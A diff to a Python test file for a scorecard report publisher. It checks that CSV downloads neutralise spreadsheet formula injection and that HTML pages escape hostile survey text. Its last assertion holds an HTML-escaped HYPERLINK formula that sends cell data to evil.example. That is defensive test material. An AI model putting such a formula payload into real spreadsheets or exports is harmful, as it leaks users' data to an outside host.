@@ -1,5 +1,5 @@
 """The report's parts on their own (no flow): the significance palette's contrast, the trend charts,
-and the CSV downloads' formula safety."""
+and the CSV downloads' formula safety, on their own and from a hostile warehouse."""
 
 from __future__ import annotations
 
@@ -10,10 +10,13 @@ import re
 import xml.etree.ElementTree as ET
 from decimal import Decimal
 
+import duckdb
 import pytest
 
 from scorecard.publish.charts import TrendPoint, trend_chart
 from scorecard.publish.downloads import BOM, csv_text
+from scorecard.publish.report import build_report
+from scorecard.publish.safe_output import starts_like_formula
 from scorecard.publish.significance import CHART_BENCHMARK, CHART_VALUE, NOT_COMPARED, PAPER, SHADES, contrast_ratio, shade
 
 SVG = "{http://www.w3.org/2000/svg}"
@@ -80,3 +83,23 @@ def test_csv_cells_keep_numbers_dates_and_booleans_and_header_names_are_safe_too
     text = csv_text(["=x", "n"], [{"=x": dt.date(2024, 1, 2), "n": Decimal("-0.25")}, {"=x": True, "n": 3}])
     assert csv_rows(text) == [["'=x", "n"], ["2024-01-02", "-0.25"], ["true", "3"]]
     assert re.search(r"\r\n$", text)
+
+
+def test_survey_text_in_a_report_download_is_text_and_on_its_page_is_escaped(tmp_path):
+    """Indicator texts, the framework's name and the sides' notes of the hostile warehouse are formulas."""
+    from test_hostile_outputs import CAMDEN, FORMULAS, YEAR, hostile_warehouse
+
+    out = tmp_path / "reports"
+    warehouse = hostile_warehouse(tmp_path, ["tiny"], [CAMDEN])
+    build_report(warehouse, out)
+    with duckdb.connect(str(warehouse), read_only=True) as con:
+        written = [text for (text,) in con.execute("SELECT indicator_text FROM marts.indicator_scores ORDER BY position").fetchall()]
+    stem = f"tiny-{CAMDEN}-{YEAR}"
+    indicators = csv_rows((out / "downloads" / f"{stem}.indicators.csv").read_text(encoding="utf-8"))
+    texts = [row[indicators[0].index("indicator_text")] for row in indicators[1:]]
+    assert texts == ["'" + text if starts_like_formula(text) else text for text in written]
+    assert texts[:4] == ["'" + formula for formula in FORMULAS[:4]]  # the frameworks' loader strips a leading tab or CR
+    index = csv_rows((out / "downloads" / "index.tiny.csv").read_text(encoding="utf-8"))
+    assert {row[index[0].index("framework_name")] for row in index[1:]} == {"'=Tiny"}
+    page = (out / "scorecards" / f"{stem}.html").read_text(encoding="utf-8")
+    assert "=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1,&#34;click&#34;)" in page and '"&A1' not in page
